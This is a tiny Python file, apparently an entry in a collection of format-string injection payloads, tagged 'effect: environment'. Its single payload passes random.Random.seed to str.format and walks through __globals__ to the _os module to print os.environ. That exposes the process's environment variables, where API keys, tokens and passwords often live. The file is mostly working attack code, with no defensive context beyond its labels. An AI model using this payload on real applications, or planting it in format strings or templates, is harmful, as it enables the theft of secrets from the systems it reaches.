# source: own
# effect: environment

import random

walk = "__globals__"
print(f"{{0.{walk}[_os].environ}}".format(random.Random.seed))
